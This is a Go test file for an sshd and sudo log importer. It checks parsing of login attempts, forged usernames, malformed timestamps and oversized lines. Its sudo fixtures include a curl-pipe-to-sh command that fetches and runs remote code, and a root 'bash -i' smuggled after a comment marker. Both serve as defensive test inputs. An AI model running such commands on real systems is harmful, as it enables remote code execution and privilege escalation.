package importer

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ttpcron/ttpcron"
)

var inBerlin = func() Settings {
	var s Settings
	for name, value := range map[string]string{"zone": "Europe/Berlin", "year": "2025"} {
		if err := s.Set(name, value); err != nil {
			panic(err)
		}
	}
	return s
}()

// sshdSaid makes a log of messages of sshd's process 7, one a second.
func sshdSaid(messages ...string) []byte {
	var b strings.Builder
	for i, m := range messages {
		fmt.Fprintf(&b, "2026-01-02T03:04:%02dZ web-1 sshd[7]: %s\n", i, m)
	}
	return []byte(b.String())
}

// attempts lists who tried which user how, and with which success.
func attempts(r result) (all []string) {
	for i := range r.Events {
		e := &r.Events[i]
		text := func(name string) string { s, _ := e.Payload.Text(name); return s }
		all = append(all, fmt.Sprintf("%s %q %s %v", e.AttackerIP, text("username"), text("method"), e.Payload.Value("success")))
	}
	return all
}

func TestSSHDMessages(t *testing.T) {
	const root = `203.0.113.7 "root" password false`
	for name, c := range map[string]struct {
		messages []string
		want     []string
	}{
		"failed":               {[]string{"Failed password for root from 203.0.113.7 port 4 ssh2"}, []string{root}},
		"protocol 1":           {[]string{"Failed password for root from 203.0.113.7 port 4"}, []string{root}},
		"repeated":             {[]string{"message repeated 3 times: [ Failed password for root from 203.0.113.7 port 4 ssh2]"}, []string{root, root, root}},
		"repeated, no attempt": {[]string{"message repeated 3 times: [ Received disconnect]"}, nil},
		"accepted":             {[]string{"Accepted keyboard-interactive/pam for root from 2001:db8::7 port 4 ssh2"}, []string{`2001:db8::7 "root" keyboard-interactive/pam true`}},
		"a key":                {[]string{"Failed publickey for root from 203.0.113.7 port 4 ssh2: RSA SHA256:abcdEFGH0123456789+/abcd"}, []string{`203.0.113.7 "root" publickey false`}},
		"an old key":           {[]string{"Accepted publickey for root from 203.0.113.7 port 4 ssh2: RSA 00:11:22:33:44:55:66:77:88:99:aa:bb:cc:dd:ee:ff"}, []string{`203.0.113.7 "root" publickey true`}},
		"a certificate":        {[]string{"Accepted publickey for root from 203.0.113.7 port 4 ssh2: RSA-CERT SHA256:abcdEFGH0123456789 ID alice (serial 0) CA ED25519 SHA256:abcdEFGH0123456789"}, []string{`203.0.113.7 "root" publickey true`}},
		"a forged certificate": {[]string{"Failed publickey for root from 203.0.113.7 port 4 ssh2: RSA-CERT SHA256:abcdEFGH0123456789 ID x from 198.51.100.1 port 1 ssh2: RSA abcdEFGH0123456789 ID y (serial 0) CA ED25519 SHA256:abcdEFGH0123456789"}, nil},
		"a forged address":     {[]string{"Failed password for invalid user x from 198.51.100.1 port 5 ssh2 from 203.0.113.7 port 4 ssh2"}, []string{`203.0.113.7 "x from 198.51.100.1 port 5 ssh2" password false`}},
		"a forged key":         {[]string{"Failed password for invalid user x from 198.51.100.1 port 5 ssh2: RSA SHA256:abcdEFGH0123456789 from 203.0.113.7 port 4 ssh2"}, []string{`203.0.113.7 "x from 198.51.100.1 port 5 ssh2: RSA SHA256:abcdEFGH0123456789" password false`}},
		"a forged success":     {[]string{"Failed password for invalid user Accepted password for root from 198.51.100.1 port 4 ssh2 from 203.0.113.7 port 4 ssh2"}, []string{`203.0.113.7 "Accepted password for root from 198.51.100.1 port 4 ssh2" password false`}},
		"no user":              {[]string{"Failed password for invalid user  from 203.0.113.7 port 4 ssh2"}, []string{`203.0.113.7 "" password false`}},
		"invalid, then failed": {[]string{"Invalid user a from 203.0.113.7 port 4", "Failed none for invalid user a from 203.0.113.7 port 4 ssh2", "Failed password for invalid user a from 203.0.113.7 port 4 ssh2", "Connection closed by invalid user a 203.0.113.7 port 4 [preauth]"}, []string{`203.0.113.7 "a" password false`}},
		"invalid, then gone":   {[]string{"Invalid user a from 203.0.113.7 port 4", "Connection closed by invalid user a 203.0.113.7 port 4 [preauth]"}, []string{`203.0.113.7 "a"  false`}},
		"invalid, twice gone":  {[]string{"Invalid user a from 203.0.113.7 port 4", "Received disconnect from 203.0.113.7 port 4:11: Bye Bye [preauth]", "Disconnected from invalid user a 203.0.113.7 port 4 [preauth]"}, []string{`203.0.113.7 "a"  false`}},
		"old invalid":          {[]string{"Invalid user a from 203.0.113.7", "Connection closed by 203.0.113.7 [preauth]"}, []string{`203.0.113.7 "a"  false`}},
		"left with a name":     {[]string{"Connection closed by authenticating user root 203.0.113.7 port 4 [preauth]"}, []string{`203.0.113.7 "root"  false`}},
		"left, forged":         {[]string{"Connection closed by invalid user x 198.51.100.1 port 5 [preauth] 203.0.113.7 port 4 [preauth]"}, []string{`203.0.113.7 "x 198.51.100.1 port 5 [preauth]"  false`}},
		"too many":             {[]string{"Disconnecting authenticating user root 203.0.113.7 port 4: Too many authentication failures [preauth]", "Connection closed by authenticating user root 203.0.113.7 port 4 [preauth]"}, []string{`203.0.113.7 "root"  false`}},
		"left without a name":  {[]string{"Connection closed by 203.0.113.7 port 4 [preauth]"}, nil},
		"a session's end":      {[]string{"Accepted password for root from 203.0.113.7 port 4 ssh2", "Received disconnect from 203.0.113.7 port 4:11: disconnected by user", "Disconnected from user root 203.0.113.7 port 4"}, []string{`203.0.113.7 "root" password true`}},
		"octal":                {[]string{`Failed password for invalid user a\303\244\\b\n from 203.0.113.7 port 4 ssh2`}, []string{`203.0.113.7 "aä\\b\\n" password false`}},
		"an unknown address":   {[]string{"Failed password for root from UNKNOWN port 65535 ssh2"}, []string{` "root" password false`}},
		"something else":       {[]string{"Server listening on 0.0.0.0 port 22.", "Failed to release session", "error: PAM: x for root from 203.0.113.7", "fatal: Timeout before authentication for 203.0.113.7 port 4"}, nil},
	} {
		r := readBytes(t, sshdSaid(c.messages...), "sshd")
		if got := attempts(r); !slices.Equal(got, c.want) {
			t.Errorf("%s: %q, want %q; rejects %+v", name, got, c.want, r.Rejects)
		}
		comesBack(t, r.Events)
		without := strings.ReplaceAll(string(sshdSaid(c.messages...)), "sshd[7]:", "sshd:")
		if got := attempts(readBytes(t, []byte(without), "sshd")); !slices.Equal(got, c.want) && name != "old invalid" && name != "invalid, twice gone" {
			t.Errorf("%s, without the process: %q, want %q", name, got, c.want)
		}
	}
	if r := readBytes(t, sshdSaid("message repeated 99 times: [ Failed password for root from 203.0.113.7 port 4 ssh2]"), "sshd"); len(r.Rejects) != 1 || len(r.Events) != 0 {
		t.Errorf("repeated without end: %+v", r.Rejects)
	}
}

func TestSudo(t *testing.T) {
	for line, want := range map[string]string{
		"alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id -u":                           `/usr/bin/id -u|/home/alice|root|alice|`,
		"   alice : TTY=pts/0 ; PWD=/ ; USER=root ; GROUP=adm ; TSID=00001A ; ENV=A=1 B=2 ; COMMAND=/bin/sh": `/bin/sh|/|root|alice|`,
		"alice : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh":                      `/bin/sh|/|root|alice|user NOT in sudoers`,
		"alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh":            `/bin/sh|/|root|alice|3 incorrect password attempts`,
		"alice : PWD=/tmp ; USER=root ; COMMAND=/bin/echo a#012b #100 #x":                                    "/bin/echo a\nb #100 #x|/tmp|root|alice|",
		"alice : TTY=pts/0 ; PWD=/a ; USER=x ; COMMAND=/bin/true ; USER=root ; COMMAND=/usr/bin/id":          `/bin/true ; USER=root ; COMMAND=/usr/bin/id|/a|x|alice|/usr/bin/id|/a|x|alice|`,
		"pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)":                     "",
		"   alice : (command continued) 'curl http://192.0.2.9/a' | sh":                                      `'curl http://192.0.2.9/a' | sh|||alice|`,
		"alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo x : (command continued) y":                `/bin/echo x : (command continued) y|/|root|alice|`,
		"alice : (command continued) ":                      "",
		"alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND= ": "",
	} {
		r := readBytes(t, []byte("2026-01-02T03:04:05+00:00 web-1 sudo: "+line+"\n"), "sshd")
		got := ""
		for i := range r.Events {
			e := &r.Events[i]
			var all []string
			for _, name := range []string{"command_text", "pwd", "run_as", "user", "refused"} {
				s, _ := e.Payload.Text(name)
				all = append(all, s)
			}
			got += strings.Join(all, "|")
			if e.Kind != ttpcron.Command || e.IdentityUUID != ttpcron.HostIdentity("web-1") {
				t.Errorf("%s", e.AppendJSON(nil))
			}
		}
		if got != want {
			t.Errorf("%s: %q, want %q; rejects %+v", line, got, want, r.Rejects)
		}
	}
}

// A log without years and zones is refused until both are known.
func TestSSHDLacks(t *testing.T) {
	line := []byte("Nov 27 13:51:56 web-1 sshd[7]: Failed password for root from 203.0.113.7 port 4 ssh2\n")
	dir := t.TempDir()
	for _, c := range []struct {
		path     string
		settings Settings
		lacks    string
	}{
		{write(t, dir, "auth.log", line), Settings{}, "zone and year"},
		{filepath.Join(dir, "auth.log"), Settings{Zone: time.UTC}, "its year"},
		{filepath.Join(dir, "auth.log"), Settings{Year: 2026}, "its zone"},
		{filepath.Join(dir, "auth.log"), Settings{Zone: time.UTC, Year: 2026}, ""},
		{write(t, t.TempDir(), "auth.log-20261128", line), Settings{Zone: time.UTC}, ""},
		{write(t, dir, "docker.log", []byte(`{"log":`+quoted(string(line))+`,"stream":"stdout","time":"2026-11-27T13:51:56Z"}`)), Settings{}, "zone and year"},
		// What a user is called is nobody's time.
		{write(t, dir, "forged.log", sshdSaid("Failed password for Nov 27 13:51:56 h sshd[7]: x from 203.0.113.7 port 4 ssh2")), Settings{}, ""},
		{write(t, dir, "iso.log", sshdSaid("Failed password for root from 203.0.113.7 port 4 ssh2")), Settings{}, ""},
	} {
		changed(t, c.path, time.Date(2026, 11, 27, 14, 0, 0, 0, time.UTC))
		r := readAll(t, c.path, Options{Settings: c.settings, Final: true})
		if c.lacks == "" && (r.Err != nil || len(r.Events) != 1 || r.Format != "sshd") || c.lacks != "" && (r.Err == nil || !strings.Contains(r.Err.Error(), c.lacks)) {
			t.Errorf("%s with %+v: %v, %d events", c.path, c.settings, r.Err, len(r.Events))
		}
	}
}

// A log that carries the records of a sensor is the sensor's, however much sshd says in it.
func TestSSHDBesideASensor(t *testing.T) {
	said := string(sshdSaid(slices.Repeat([]string{"Failed password for root from 203.0.113.7 port 4 ssh2"}, 50)...))
	for name, line := range map[string]string{
		"Cowrie in syslog": "2026-01-02T03:04:05Z web-1 cowrie[9]: " + command(1, "id"),
		"in the journal":   `{"__REALTIME_TIMESTAMP":"1767322800123456","SYSLOG_IDENTIFIER":"cowrie","_HOSTNAME":"h","MESSAGE":` + quoted(strings.TrimSpace(command(1, "id"))) + "}\n",
	} {
		r := readBytes(t, []byte(said+strings.Repeat(line, 13)), Auto)
		if r.Format != "cowrie" || len(r.Events) != 13 {
			t.Errorf("%s: %s, %d events", name, r.Format, len(r.Events))
		}
		// A line or two may be somebody's who can write to the log.
		if r := readBytes(t, []byte(line+said+line), Auto); r.Format != "sshd" || len(r.Events) != 50 {
			t.Errorf("two lines of %s: %s, %d events", name, r.Format, len(r.Events))
		}
	}
	for name, line := range map[string]string{
		"an access log": "203.0.113.7 - - [27/Nov/2026:13:51:56 +0000] \"GET / HTTP/1.1\" 200 612\n",
		"nginx":         "2026-01-02T03:04:05Z web-1 nginx[9]: 203.0.113.7 - - [27/Nov/2026:13:51:56 +0000] \"GET / HTTP/1.1\" 200 612\n",
		"audit":         "type=USER_AUTH msg=audit(1777873745.586:1): pid=1 res=failed\n",
	} {
		if r := readBytes(t, []byte(said+line), Auto); r.Format != "sshd" || len(r.Events) != 50 {
			t.Errorf("%s: %s, %d events", name, r.Format, len(r.Events))
		}
	}
	// What a client calls itself is no record.
	forged := string(sshdSaid("Failed password for invalid user " + strings.TrimSpace(command(1, "id")) + " from 203.0.113.7 port 4 ssh2"))
	if r := readBytes(t, []byte(forged), Auto); r.Format != "sshd" || len(r.Events) != 1 || r.Events[0].Kind != ttpcron.AuthAttempt {
		t.Errorf("%s: %+v", r.Format, r.Events)
	}
}

// One record is one event in each form that has the time of the other.
func TestSSHDForms(t *testing.T) {
	const message = "Failed password for root from 203.0.113.7 port 4 ssh2"
	var want string
	for _, line := range []string{
		"2026-01-02T03:04:05Z web-1 sshd[7]: " + message,
		"2026-01-02T04:04:05+01:00 web-1 sshd[7]: " + message,
		"2026-01-02T04:04:05+0100 web-1 sshd[7]: " + message,
		"<38>2026-01-02T03:04:05Z web-1 sshd[7]: " + message,
		"<38>Jan  2 04:04:05 web-1 sshd[7]: " + message,
		"Jan  2 04:04:05 web-1 sshd[7]: " + message,
		"<38>1 2026-01-02T03:04:05Z web-1 sshd 7 - - " + message,
		`<38>1 2026-01-02T03:04:05Z web-1 sshd 7 id [a@1 b="c\"]"] ` + "\ufeff" + message,
		"1767323045.000000 web-1 sshd[7]: " + message,
		`{"__REALTIME_TIMESTAMP":"1767323045000000","_HOSTNAME":"web-1","SYSLOG_IDENTIFIER":"sshd","_PID":"7","MESSAGE":"` + message + `"}`,
		`{"MESSAGE":"` + message + `","_PID":7,"SYSLOG_IDENTIFIER":"sshd-session","__REALTIME_TIMESTAMP":1767323045000000,"_HOSTNAME":"web-1"}`,
		`{"log":"2026-01-02T03:04:05Z web-1 sshd[7]: ` + message + `\n","stream":"stdout","time":"2026-05-04T05:00:01Z"}`,
	} {
		s := inBerlin
		s.Year = 2026
		r := mustRead(t, Stdin, Options{Settings: s, Stdin: strings.NewReader(line + "\n")})
		if len(r.Events) != 1 || r.Format != "sshd" {
			t.Errorf("%s: %s, %d events, rejects %+v", line, r.Format, len(r.Events), r.Rejects)
			continue
		}
		if want == "" {
			want = r.Events[0].ContentID()
		}
		if got := r.Events[0].ContentID(); got != want {
			t.Errorf("%s is another event: %s", line, r.Events[0].AppendJSON(nil))
		}
	}
}

func TestSSHDHostile(t *testing.T) {
	for _, line := range []string{
		`{"__REALTIME_TIMESTAMP":"x","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"a"}`,
		`{"__REALTIME_TIMESTAMP":"1767323045000000","SYSLOG_IDENTIFIER":"sshd","MESSAGE":null,"_HOSTNAME":"h"}`,
		`{"__REALTIME_TIMESTAMP":"1767323045000000","SYSLOG_IDENTIFIER":["sshd","x"],"MESSAGE":{"a":[1]},"_HOSTNAME":{}}`,
		`{"__REALTIME_TIMESTAMP":"1767323045000000","SYSLOG_IDENTIFIER":"sshd","MESSAGE":[256,-1,"a"],"_HOSTNAME":"h"}`,
		`{"__REALTIME_TIMESTAMP":"1767323045000000","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Failed password for root from 203.0.113.7 port 4 ssh2"}`,
		"Nov 99 13:51:56 web-1 sshd[7]: Failed password for root from 203.0.113.7 port 4 ssh2",
		"Xxx 27 13:51:56 web-1 sshd[7]: Failed password for root from 203.0.113.7 port 4 ssh2",
		"Nov 27 25:51:56 web-1 sshd[7]: Failed password for root from 203.0.113.7 port 4 ssh2",
		"2026-13-02T03:04:05Z web-1 sshd[7]: Failed password for root from 203.0.113.7 port 4 ssh2",
	} {
		r := readAll(t, Stdin, Options{Format: "sshd", Settings: inBerlin, Stdin: strings.NewReader(line + "\n")})
		if r.Err == nil && (len(r.Events) > 0 || r.Report.Lines != 1) {
			t.Errorf("%s: %+v", line, r.Events)
		}
	}
	long := "2026-01-02T03:04:05Z web-1 sshd[7]: Failed password for invalid user " + strings.Repeat("a from 198.51.100.1 port 1 ssh2 ", 200) + "from 203.0.113.7 port 4 ssh2\n"
	if r := readBytes(t, []byte(long), "sshd"); len(r.Events) != 1 || r.Events[0].AttackerIP != "203.0.113.7" {
		t.Errorf("a long user: %d events, rejects %+v", len(r.Events), len(r.Rejects))
	}
}

// The counts of the golden input, as grep has them.
func TestSSHDCounts(t *testing.T) {
	content, err := os.ReadFile("testdata/sshd/input.log-20260103")
	if err != nil {
		t.Fatal(err)
	}
	r := mustRead(t, Stdin, Options{Settings: inBerlin, Stdin: strings.NewReader(string(content))})
	kinds := map[ttpcron.SourceKind]int{}
	for i := range r.Events {
		kinds[r.Events[i].Kind]++
	}
	if kinds[ttpcron.Command] != strings.Count(string(content), "COMMAND=") {
		t.Errorf("%v", kinds)
	}
}

// FuzzSSHDTried compares the two ways to read an attempt: what the fast one reads, the
// other reads alike.
func FuzzSSHDTried(f *testing.F) {
	for _, text := range []string{
		"Failed password for root from 203.0.113.7 port 4 ssh2", "Accepted publickey for root from 203.0.113.7 port 4 ssh2: RSA SHA256:abcdEFGH0123456789",
		"Failed none for invalid user  from 203.0.113.7 port 4 ssh2", "Failed password for invalid user x from 198.51.100.1 port 5 ssh2 from 203.0.113.7 port 4 ssh2",
		"Failed password for illegal user x from 198.51.100.1 port 5 ssh2: RSA SHA256:abcdEFGH0123456789 from 203.0.113.7 port 4 ssh2", "Failed a/b for  from  port 1 ssh2", "Failed a for x from a b port 1 ssh2",
	} {
		f.Add([]byte(text))
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		if !bytes.HasPrefix(text, []byte("Failed ")) && !bytes.HasPrefix(text, []byte("Accepted ")) {
			return
		}
		fast := cutTried(text)
		if fast == nil {
			return
		}
		slow := sshdTried.FindSubmatch(text)
		for _, n := range []int{1, 2, 4, 5, 6, 7, 8, 9} {
			if slow == nil || !bytes.Equal(fast[n], slow[n]) {
				t.Fatalf("%q: %q, %q", text, fast, slow)
			}
		}
	})
}

// A folder's name that looks like the end of what sudo writes hides no command.
func TestSudoReadTwoWays(t *testing.T) {
	r := readBytes(t, []byte("2026-01-02T03:04:05+00:00 web-1 sudo:    alice : PWD=/tmp/x ; USER=root ; COMMAND=/bin/true # ; USER=root ; COMMAND=/bin/bash -i\n"), "sshd")
	var got []string
	for i := range r.Events {
		text, _ := r.Events[i].Payload.Text("command_text")
		got = append(got, text)
	}
	if want := []string{"/bin/true # ; USER=root ; COMMAND=/bin/bash -i", "/bin/bash -i"}; !slices.Equal(got, want) {
		t.Errorf("commands %q, want %q", got, want)
	}
}

// A message that is longer than any of sshd's or sudo's is rejected, and takes no time.
func TestSSHDLongMessages(t *testing.T) {
	long := strings.Repeat("x from 198.51.100.1 port 5 ", 1<<15)
	for name, c := range map[string]struct {
		line    string
		rejects int
	}{
		"failed":         {"2026-01-02T03:04:05Z web-1 sshd[7]: Failed password for " + long + " from 203.0.113.7 port 4 ssh2", 1},
		"left":           {"2026-01-02T03:04:05Z web-1 sshd[7]: Disconnected from invalid user " + long + " 203.0.113.7 port 4", 1},
		"repeated":       {"2026-01-02T03:04:05Z web-1 sshd[7]: message repeated 3 times: [ " + long + "]", 1},
		"sudo":           {"2026-01-02T03:04:05Z web-1 sudo: alice : TTY=pts/0 ; PWD=/" + long + " ; USER=root ; COMMAND=/bin/id", 1},
		"RFC 5424":       {"<38>1 2026-01-02T03:04:05Z web-1 sshd 7 - - Failed password for " + long, 1},
		"another":        {"<38>1 2026-01-02T03:04:05Z web-1 su 7 - - " + long, 0},
		"a long command": {"2026-01-02T03:04:05Z web-1 sudo: alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo " + long[:60_000], 0},
		"a long name":    {"2026-01-02T03:04:05Z web-1 sshd[7]: Failed password for " + long[:1000] + " from 203.0.113.7 port 4 ssh2", 0},
	} {
		r := readBytes(t, []byte(c.line+"\n"), "sshd")
		if events := len(r.Events); len(r.Rejects) != c.rejects || events != 1-c.rejects && name != "another" {
			t.Errorf("%s: %d events, rejects %+v", name, events, r.Rejects)
		}
		if c.rejects > 0 && !strings.Contains(r.Rejects[0].Reason, "longer than") {
			t.Errorf("%s: %s", name, r.Rejects[0].Reason)
		}
	}
	head := strings.Repeat("x", maxRFC5424)
	if r := readBytes(t, []byte(`<38>1 2026-01-02T03:04:05Z web-1 sshd 7 - [a b="`+head+`"] Failed password for root from 203.0.113.7 port 4 ssh2`+"\n"), "sshd"); len(r.Rejects) != 1 {
		t.Errorf("a long head: %d rejects", len(r.Rejects))
	}
}
